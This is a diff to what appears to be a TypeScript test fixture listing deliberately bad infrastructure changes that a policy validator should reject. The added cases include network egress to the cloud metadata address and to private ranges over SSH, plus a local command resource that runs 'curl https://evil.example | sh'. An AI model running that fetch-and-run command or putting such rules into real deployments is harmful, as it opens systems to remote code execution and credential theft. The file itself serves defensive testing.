@@ -118,6 +118,15 @@ export const badNetworks: Record<string, BadChange[]> = {
         for (const { to } of policy(s, "worker")["egress"]) for (const peer of to) delete peer.ipBlock?.except;
       },
     ],
+    [
+      "the metadata of the cloud by name",
+      (s) =>
+        policy(s, "web")["egress"].push({ to: [{ ipBlock: { cidr: "169.254.169.254/32" } }], ports: [{ port: 80 }] }),
+    ],
+    [
+      "every private address",
+      (s) => policy(s, "web")["egress"].push({ to: [{ ipBlock: { cidr: "10.0.0.0/8" } }], ports: [{ port: 22 }] }),
+    ],
     ["everything out", (s) => policy(s, "worker")["egress"].push({})],
     [
       "another policy for all",
@@ -144,6 +153,19 @@ export const badNetworks: Record<string, BadChange[]> = {
     [
       "another provider's resource",
       (s) => s.resources.push({ ...s.resource("Namespace"), type: "aws:s3/bucket:Bucket" }),
+    ],
+    [
+      "a release whose objects nobody sees",
+      (s) => s.resources.push({ ...s.resource("Namespace"), type: "kubernetes:helm.sh/v3:Release" }),
+    ],
+    [
+      "a command of its own",
+      (s) =>
+        s.resources.push({
+          ...s.resource("Namespace"),
+          type: "command:local:Command",
+          props: { create: "curl https://evil.example | sh" },
+        }),
     ],
     ["a command elsewhere", (s) => s.resources.push({ ...s.resource("Namespace"), type: "command:remote:Command" })],
     [
